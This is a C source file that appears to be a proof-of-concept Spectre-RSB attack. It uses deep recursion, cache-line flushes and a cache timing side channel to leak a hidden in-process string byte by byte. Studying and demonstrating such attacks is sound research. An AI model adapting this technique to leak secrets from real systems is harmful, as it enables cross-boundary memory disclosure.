/* Deep recursion: returns of one function find those of another in the return stack, and flushed return addresses. */
#include "receiver.h"

#define DEPTH 64
static const char hidden[] = "rsb";
static const char *volatile current;
static char *frames[DEPTH + 2];
static volatile int never;

__attribute__((noinline)) static int winding(int depth) {
    if (depth > 0 && winding(depth - 1)) {
        touch(line((uint8_t)*current)); /* No call returns anything but 0. */
        abort();
    }
    return never;
}

__attribute__((noinline)) static int unwinding(int depth) {
    char here;
    frames[depth] = &here;
    int result = depth > 0 ? unwinding(depth - 1) : winding(DEPTH);
    for (char *place = &here; place < frames[depth + 1] + 64; place += 64) _mm_clflush(place);
    _mm_mfence();
    _mm_lfence();
    return result | 1;
}

int main(void) {
    char top;
    calibrate(1000);
    frames[DEPTH + 1] = &top;
    for (current = hidden; *current; current++) {
        start();
        int found = NOTHING;
        for (int round = 0; round < 12 && found == NOTHING; round++) {
            forget();
            unwinding(DEPTH);
            look(-1);
            found = best(3);
        }
        putchar(found);
    }
    putchar('\n');
    return 0;
}
